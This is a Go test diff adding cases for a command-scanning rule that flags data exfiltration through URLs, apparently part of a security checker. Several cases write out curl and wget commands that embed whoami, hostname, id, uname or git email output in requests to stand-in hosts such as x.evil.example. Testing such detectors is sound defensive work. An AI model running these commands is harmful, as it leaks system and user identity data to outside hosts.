@@ -171,3 +171,26 @@ func TestGitEverydayNoFindings(t *testing.T) {
 		}
 	}
 }
+
+func TestExfilURLData(t *testing.T) {
+	runRuleCases(t, "exfil.url-data", []ruleCase{
+		cmdCase("curl -s http://203.0.113.7/$(whoami)", true),
+		cmdCase(`curl "http://203.0.113.7/?h=$(hostname)&u=$(id -un)"`, true),
+		cmdCase("wget -q http://203.0.113.7/`cat /etc/hostname`", true),
+		cmdCase(`curl "https://x.evil.example/q?d=$(uname -a | base64)"`, true),
+		cmdCase(`curl "https://x.evil.example/q?d=$(uname --nodename)"`, true),
+		cmdCase(`curl "https://x.evil.example/$(git config user.email)"`, true),
+		cmdCase(`curl "https://x.evil.example/$(/usr/bin/id)"`, true),
+		cmdCase(`curl -L "https://example.com/dl-$(uname -s)-$(uname -m).tar.gz"`, false),
+		cmdCase(`curl -LO "https://dl.k8s.io/release/$(curl -Ls https://dl.k8s.io/release/stable.txt)/bin/kubectl"`, false),
+		cmdCase("curl http://localhost:8080/u/$(whoami)", false),
+		cmdCase("curl http://127.0.0.1:3000/$(cat id)", false),
+		cmdCase(`curl "https://api.example.com/builds?since=$(date +%s)"`, false),
+		cmdCase("curl http://$(whoami).evil.example/", false), // exfil.dns
+		cmdCase("curl https://example.com/whoami", false),
+	})
+	runRuleCasesWith(t, Config{TrustedHosts: []string{".corp.example"}}, "exfil.url-data", []ruleCase{
+		cmdCase("curl https://ci.corp.example/register/$(hostname)", false),
+		cmdCase("curl https://evil.example/register/$(hostname)", true),
+	})
+}
